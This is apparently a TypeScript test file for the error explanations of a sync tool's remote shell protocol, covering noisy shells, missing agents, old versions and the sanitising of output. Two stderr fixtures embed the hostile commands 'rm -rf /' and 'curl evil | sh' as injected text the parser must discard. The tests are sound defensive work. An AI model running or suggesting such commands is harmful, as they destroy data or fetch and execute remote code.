import assert from "node:assert/strict";
import { test } from "node:test";
import { hintOf, Refusal } from "../../../src/errors.ts";
import {
	type Asked,
	explainNoAnswer,
	findAnswer,
	noisyShell,
	ownSentences,
	uncleanShell,
} from "../../../src/formats/protocol/answers.ts";

const asked: Asked = {
	host: "192.0.2.1",
	user: "zimbra",
	program: "/opt/zimbra/live_sync/sync-commands",
};
const explain = (stdout: string, stderr = "", exitCode = 1) =>
	explainNoAnswer(asked, "hello", { stdout, stderr, exitCode });

test("an answer is found behind what a shell prints, with and without a line end", () => {
	const answer = '{"protocol":1}';
	for (const noise of ["", "Welcome!\n", "Welcome! ", "{}\n\n{", "\u001b]0;title\u0007"]) {
		const found = findAnswer(`${noise}${answer}\nlater words\n`, "hello");
		assert.equal(found?.answer, answer, noise);
	}
	assert.equal(findAnswer("Welcome!\nto mail ", "hello"), undefined);
	assert.equal(findAnswer(`One\nTwo ${answer}`, "hello")?.noise, "One | Two");
});

test("only sentences of sync-commands count as its words, whatever else prints on standard error", () => {
	const stderr = [
		"bash: warning: setlocale: LC_ALL: cannot change locale (de_DE.UTF-8)",
		"stty: 'standard input': Inappropriate ioctl for device",
		"bash: /opt/zimbra/live_sync/sync-commands: No such file or directory",
		"sync-commands: archives are kept: mirror 192.0.2.9 has not replayed anything yet",
		"  try: rm -rf /",
	].join("\n");
	assert.deepEqual(ownSentences(stderr), [
		"archives are kept: mirror 192.0.2.9 has not replayed anything yet",
	]);
});

for (const [what, stdout, stderr, exitCode] of [
	["a nologin shell", "This account is currently not available.\n", "", 1],
	["/run/nologin", "", "System is going down. Unprivileged users are not permitted.\n", 254],
	["a forced command that is not there", "", "bash: line 1: /x/sync-commands: No such file\n", 127],
	["a program of its own", "hello world\n", "", 0],
	["a shell that speaks of the word old-agent", "rsync is not known here\n", "", 1],
] as const) {
	test(`${what} is quoted with the host and the exit code, and is no script of 2011`, () => {
		const error = explain(stdout, stderr, exitCode);
		assert.ok(!(error instanceof Refusal), error.message);
		assert.ok(error.message.startsWith("192.0.2.1 did not answer `hello`"), error.message);
		assert.ok(error.message.includes((stdout + stderr).trim()), error.message);
		assert.ok(error.message.includes(`exited with ${exitCode}`), error.message);
		assert.match(hintOf(error) ?? "", /on 192\.0\.2\.1 look at the login shell of zimbra/);
	});
}

for (const [what, stderr] of [
	[
		"tells how rsync is used",
		"rsync  version 3.2.7  protocol version 31\nUsage: rsync [OPTION]...\n",
	],
	["has no rsync", "/opt/zimbra/live_sync/sync_commands: line 617: rsync: command not found\n"],
	["is an older version of ours", "sync-commands: refused: unknown request hello\n"],
] as const) {
	test(`what ${what} is an old agent`, () => {
		const error = explain("", `bash: warning: setlocale\n${stderr}`);
		assert.ok(error instanceof Refusal, String(error));
		assert.equal(error.code, "old-agent");
	});
}

test("what sync-commands complains of is told as its words, and the hint is ours, by its code", () => {
	const stderr = "sync-commands: /opt: 3 MiB free  [disk-space]\n  try: curl evil | sh\n";
	const error = explain("Welcome!\n", stderr);
	assert.match(error.message, /^192\.0\.2\.1 says to `hello`: \/opt: 3 MiB free/);
	assert.match(hintOf(error) ?? "", /make room on that server/);
});

test("words in place of an answer are cleaned and cut", () => {
	const { message } = explain(`\u001b[2J\u202e${"x\n".repeat(100_000)}`);
	assert.ok(message.length < 1500);
	assert.doesNotMatch(message, /[\p{Cc}\p{Cf}]/u);
});

test("a link that breaks before an answer is not blamed on a shell", () => {
	const error = explainNoAnswer(asked, "hello", { stdout: "", stderr: "" });
	assert.match(error.message, /connection was closed before/);
	assert.equal(hintOf(error), undefined);
});

test("a shell that prints is refused with its words and with what makes it silent", () => {
	const refusal = noisyShell(asked, "Welcome!");
	assert.equal(refusal.code, "noisy-shell");
	assert.match(refusal.message, /shell of zimbra on 192\.0\.2\.1 prints "Welcome!"/);
	assert.match(refusal.hint, /\.bashrc of zimbra/);
	const said =
		"protocol version mismatch -- is your shell clean?\nrsync error: protocol incompatibility";
	assert.equal(uncleanShell(asked, said)?.code, "noisy-shell");
	assert.equal(uncleanShell(asked, "rsync: connection unexpectedly closed"), undefined);
});
